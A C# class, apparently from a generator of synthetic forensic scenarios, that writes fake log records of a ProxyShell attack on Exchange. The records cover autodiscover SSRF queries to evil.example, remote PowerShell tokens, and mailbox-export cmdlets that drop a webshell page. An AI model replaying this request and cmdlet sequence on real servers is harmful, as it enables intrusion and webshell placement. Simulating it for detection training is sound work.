using Afterpatch.Generator.EventLog;
using Afterpatch.Generator.Logs;
using Afterpatch.Generator.Scenarios;
using Afterpatch.Generator.Traffic;

namespace Afterpatch.Generator.Attacks;

/// <summary>CVE-2021-34473, -34523, -31207: remote PowerShell through the autodiscover path, a mailbox export that writes a page.</summary>
internal sealed class ProxyShell(Incident incident, string client, string agent)
{
    public void Attempt(DateTime utc, int status)
    {
        var query = "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example";
        incident.Add(new Request(utc, Protocol.Autodiscover, "GET", "/autodiscover/autodiscover.json", client, agent, status) { Query = query, TimeTaken = 4 });
        incident.Truth("proxyshell", "the autodiscover detour was tried and refused", "address", client, utc, "attempted");
    }

    public DateTime Succeed(DateTime utc, string path)
    {
        utc = utc.AddTicks(-(utc.Ticks % TimeSpan.TicksPerSecond));
        var server = incident.Server;
        var victim = server.Users[^1];
        var token = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTCE" + incident.Chance.Hex(24);
        Detour(utc, "GET", "/mapi/nspi/", "", 200);
        Detour(utc.AddSeconds(2), "POST", "/mapi/emsmdb/", "", 200);
        for (var i = 0; i < 4; i++)
            Detour(utc.AddSeconds(5 + i), "POST", "/powershell/", "X-Rps-CAT=" + token, 200);
        Shell(utc.AddSeconds(9), "New-ManagementRoleAssignment", $"-Role \"Mailbox Import Export\" -User \"{victim.Sam}\"");
        Detour(utc.AddSeconds(12), "POST", "/ews/exchange.asmx", "", 200);
        var share = $@"\\127.0.0.1\{path[0]}$\{path[3..]}";
        Detour(utc.AddSeconds(15), "POST", "/powershell/", "X-Rps-CAT=" + token, 200);
        var written = utc.AddSeconds(16);
        Shell(written, "New-MailboxExportRequest", $"-Mailbox \"{victim.Smtp}\" -IncludeFolders (\"#Drafts#\") -ContentFilter \"(Subject -eq '{incident.Chance.Hex(16)}')\" -ExcludeDumpster \"True\" -FilePath \"{share}\"");
        Shell(utc.AddSeconds(60), "Remove-MailboxExportRequest", $"-Identity \"{victim.Smtp}\\MailboxExport\" -Confirm \"False\"");
        incident.Left(path, PstPage(), written);
        incident.Truth("proxyshell", "remote PowerShell was reached through the autodiscover path", "address", client, utc, "succeeded", written);
        incident.Truth("role-assignment", "the role for mailbox export was given away", "cmdlet", "New-ManagementRoleAssignment", utc.AddSeconds(9), "succeeded");
        incident.Truth("mailbox-export-page", "a mailbox was exported into a page of a web directory", "cmdlet", "New-MailboxExportRequest", written, "succeeded");
        incident.Truth("webshell-file", "an Outlook data file with a page's name and script lies in a web directory", "file", path, written, "succeeded");
        return written;
    }

    private void Detour(DateTime utc, string method, string target, string extra, int status)
    {
        var server = incident.Server;
        incident.Add(new Request(utc, Protocol.Autodiscover, method, "/autodiscover/autodiscover.json", client, agent, status)
        {
            Query = $"@evil.example{target}?&{(extra.Length > 0 ? extra + "&" : "")}Email=autodiscover/autodiscover.json%3F@evil.example",
            BackEndStatus = status,
            BackEndStem = target,
            BackEndQuery = extra,
            BackEndUser = server.MachineAccount,
            TimeTaken = incident.Chance.Between(40, 900),
            RequestBytes = 5_100,
            ResponseBytes = 2_400,
            RoutingHint = "ExplicitLogon-SMTP",
            AnchorMailbox = "autodiscover/autodiscover.json",
        });
        if (target == "/powershell/")
            incident.Add(new Happening(utc, recorders => recorders.Admin.Http(new RemoteShellCall(utc, server.MachineAccount, client, agent.Replace('+', ' '), status, ""))));
    }

    private void Shell(DateTime utc, string cmdlet, string parameters) =>
        Happen.Cmdlet(incident.Server, incident.Happenings, utc, cmdlet, parameters, $"{incident.Server.Domain}/Users/Administrator", incident.Server.DomainSid + "-500");

    /// <summary>A .pst by its first bytes, with a page somewhere inside.</summary>
    private byte[] PstPage()
    {
        var bytes = new byte[271_360];
        for (var i = 0; i < bytes.Length; i += 8)
            BitConverter.TryWriteBytes(bytes.AsSpan(i), i % 4096 < 1024 ? incident.Chance.Next() : 0UL);
        "!BDN"u8.CopyTo(bytes);
        System.Text.Encoding.ASCII.GetBytes(Inert.ChopperPage("exec_" + incident.Chance.Letters(4))).CopyTo(bytes, 9_216);
        return bytes;
    }
}
